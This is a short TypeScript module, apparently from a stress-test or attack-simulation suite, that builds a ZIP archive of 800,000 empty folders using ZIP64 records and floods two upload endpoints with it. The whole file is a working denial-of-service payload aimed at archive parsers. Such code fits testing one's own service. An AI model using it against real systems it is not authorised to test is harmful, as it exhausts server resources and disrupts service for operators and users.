import { post } from '../alice/request.js';
import type { Attack } from '../attack.js';
import { BATCHES, DRY_RUN } from './support.js';

const FOLDERS = 800_000;

export const zipFolders: Attack = {
  name: 'zip-folders',
  about: 'D8: ZIP archives with 800,000 folders and no file',
  async run(alice, size) {
    const archive = archiveOfFolders(FOLDERS);
    const requests = [BATCHES, DRY_RUN].map((path) => post(path, 'application/zip', archive));
    await alice.flood({
      connections: 2,
      total: size,
      request: (n) => requests[n % requests.length] ?? [],
    });
  },
};

/** An archive that is only a directory (APPNOTE 4.3.12 to 4.3.16), with ZIP64 records for the number of entries. */
function archiveOfFolders(count: number): Buffer {
  const entry = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\x00\x14\x00', 'latin1'),
    Buffer.alloc(38),
    Buffer.from('d/'),
  ]);
  entry.writeUInt16LE(2, 28);
  const directory = Buffer.alloc(count * entry.length, entry);
  const end64 = Buffer.alloc(56);
  end64.write('PK\x06\x06', 'latin1');
  end64.writeBigUInt64LE(44n, 4);
  end64.writeBigUInt64LE(BigInt(count), 24);
  end64.writeBigUInt64LE(BigInt(count), 32);
  end64.writeBigUInt64LE(BigInt(directory.length), 40);
  const locator = Buffer.alloc(20);
  locator.write('PK\x06\x07', 'latin1');
  locator.writeBigUInt64LE(BigInt(directory.length), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22, 0xff);
  end.write('PK\x05\x06\0\0\0\0', 'latin1');
  end.writeUInt16LE(0, 20);
  return Buffer.concat([directory, end64, locator, end]);
}
